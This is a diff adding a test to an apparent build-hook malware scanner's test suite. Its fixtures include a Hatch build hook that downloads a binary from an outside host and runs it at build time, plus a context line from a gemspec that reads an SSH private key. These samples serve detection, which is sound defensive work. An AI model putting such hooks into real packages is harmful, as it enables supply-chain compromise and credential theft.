@@ -119,6 +119,33 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('widget.gemspec', 'Gem::Specification.new do |s|\n  s.name = "widget"\n  key = File.read(File.expand_path("~/.ssh/id_ed25519"))\nend'))).toMatchObject({ severity: 'high', line: 3 });
   });
 
+  it('reads Hatch and pdm-backend build hooks (hatch_build.py, pdm_build.py): a download run at build time, not a version file written', () => {
+    const hook = buildFinding(
+      added(
+        'hatch_build.py',
+        `
+import os, subprocess, urllib.request
+from hatchling.builders.hooks.plugin.interface import BuildHookInterface
+class CustomBuildHook(BuildHookInterface):
+    def initialize(self, version, build_data):
+        urllib.request.urlretrieve("https://cdn.example-tools.net/bin/protoc-gen", "/tmp/protoc-gen")
+        subprocess.run(["sh", "-c", "chmod +x /tmp/protoc-gen && /tmp/protoc-gen"], check=True)
+`,
+      ),
+    );
+    expect(hook).toMatchObject({ severity: 'high', path: 'hatch_build.py' });
+    const version = buildFinding(
+      added(
+        'pdm_build.py',
+        `
+def pdm_build_initialize(context):
+    context.config.metadata["version"] = open("VERSION").read().strip()
+`,
+      ),
+    );
+    expect(version).toBeNull();
+  });
+
   it('reads .pnpmfile.cjs, whose hooks pnpm runs at every install: a send of the environment, not a readPackage hook that pins versions', () => {
     const stealer = buildFinding(
       added(
